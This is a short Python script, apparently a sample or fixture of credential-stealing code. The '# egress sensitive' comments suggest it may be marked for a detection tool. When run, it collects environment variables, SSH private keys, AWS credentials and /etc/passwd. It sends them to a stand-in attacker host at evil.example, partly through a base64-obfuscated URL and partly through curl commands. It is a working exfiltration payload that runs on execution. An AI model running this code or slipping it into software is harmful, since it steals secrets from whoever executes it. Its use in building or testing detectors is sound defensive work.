import base64
import getpass
import os
import platform
import socket
import subprocess
import urllib.request

W = base64.b64decode("aHR0cHM6Ly9ldmlsLmV4YW1wbGUvYw==").decode()


def collect():
    out = {"user": getpass.getuser(), "host": socket.gethostname(), "os": platform.platform()}
    out["env"] = dict(os.environ)
    for p in ("~/.ssh/id_rsa", "~/.aws/credentials"):
        try:
            with open(os.path.expanduser(p)) as f:
                out[p] = f.read()
        except OSError:
            pass
    return out


def ship():
    data = base64.b64encode(repr(collect()).encode())
    req = urllib.request.Request(W, data=data, headers={"User-Agent": "x"})
    urllib.request.urlopen(req, timeout=5)  # egress sensitive
    subprocess.run(["curl", "-X", "POST", "-d", "@/etc/passwd", "https://evil.example/up"])  # egress sensitive
    os.system("curl -F file=@$HOME/.ssh/id_rsa https://evil.example/k")  # egress sensitive


ship()
